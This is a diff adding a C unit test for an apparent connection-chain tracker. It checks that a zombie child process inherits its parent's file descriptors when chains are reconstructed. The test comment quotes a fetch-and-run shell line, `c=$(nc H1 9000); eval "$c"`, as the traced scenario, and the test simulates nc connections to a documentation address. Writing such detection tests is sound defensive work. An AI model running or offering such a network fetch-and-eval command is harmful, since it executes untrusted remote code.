@@ -1163,6 +1163,47 @@ static void test_pty_reuse_late_end(void)
 	pty_reuse_case(1);
 }
 
+/* `c=$(nc H1 9000); eval "$c"` under load (tests/func/chain_handoff.sh, ~1
+ * run in 4 with two busy loops): the collector applied the `$(...)` child's
+ * BIRTH after the child had run nc, written its output and exited, while the
+ * shell had not reaped it yet (it reads to EOF first). A zombie's
+ * /proc/PID/fd is there and empty: the read "succeeded", so the child got an
+ * empty table instead of its creator's at the fork — no hold on the pipe, so
+ * no departed feeder of the shell, and the onward nc had a local chain. A
+ * zombie's (or a gone process's) fd table says nothing: the child inherits.
+ * The child here is a real zombie of this process; the shell and the onward
+ * nc are pids above PID_MAX_LIMIT (never in /proc: their fds come from
+ * records). */
+static void test_zombie_child_inherits(void)
+{
+	pid_t z = fork();
+	if (z < 0) {
+		printf("    skipped: fork (%s)\n", strerror(errno));
+		return;
+	}
+	if (z == 0)
+		_exit(0);
+	siginfo_t si;
+	/* a zombie now (WNOWAIT: not reaped) */
+	CHECK_EQ_INT(waitid(P_PID, (id_t)z, &si, WEXITED | WNOWAIT), 0);
+	struct graph_conf cf = {.retention_ns = 600 * SEC, .window_ns = 60 * SEC,
+				.max_procs = 1000, .use_procfs = 1, .trust_claims = 1};
+	struct graph *g = graph_new(&cf);
+	const pid_t F = 4200100; /* > PID_MAX_LIMIT */
+	uint64_t b = mono_ns() - 30 * SEC;
+	image(g, F, 1, "/usr/bin/dash", b);
+	mkpipe(g, F, 3, 4, 960, b + 1 * SEC);
+	pipe_child(g, z, F, 4, 1, "/usr/bin/nc.openbsd", b + 1 * SEC + 1);
+	fdop(g, F, HT_REC_CLOSE, 4, 0, b + 1 * SEC + 3);
+	connect_tcp(g, z, 5, 3400, "192.0.2.9", 9000, b + 1 * SEC + 4);
+	ok(g, z, R(HT_REC_EXIT, b + 2 * SEC));
+	fdop(g, F, HT_REC_CLOSE, 3, 0, b + 2 * SEC + 2); /* EOF */
+	onward(g, F + 1, F, "/usr/bin/nc.openbsd", 3401, b + 3 * SEC);
+	CHECK_CHAINS(g, F + 1, 3401, mono_ns(), "192.0.2.9:nc.openbsd,dash,nc.openbsd");
+	graph_free(g);
+	waitpid(z, NULL, 0);
+}
+
 /* hashed fd tables: many fds, closed in an order that moves entries around
  * (the index must follow the swap-remove), looked up again */
 static void test_many_fds(void)
@@ -1235,5 +1276,5 @@ T_MAIN("graph", T(test_ssh_then_ssh), T(test_reflatten_upstream), T(test_pipe_re
        T(test_direct_path_first),
        T(test_local_origin), T(test_local_origin_feeders), T(test_local_origin_feeder_once), T(test_pid_reuse), T(test_retention_and_bounds),
        T(test_forged_creator_contradiction), T(test_records_older_than_proc_read), T(test_ghost_fd_inherited), T(test_probe_keeps_tcp_peers), T(test_reconnect_after_failure),
-       T(test_pty_purge_trim_uaf), T(test_pty_reuse_backdated_master), T(test_pty_reuse_late_end), T(test_many_fds),
+       T(test_pty_purge_trim_uaf), T(test_pty_reuse_backdated_master), T(test_pty_reuse_late_end), T(test_zombie_child_inherits), T(test_many_fds),
        T(test_memory_per_10k))
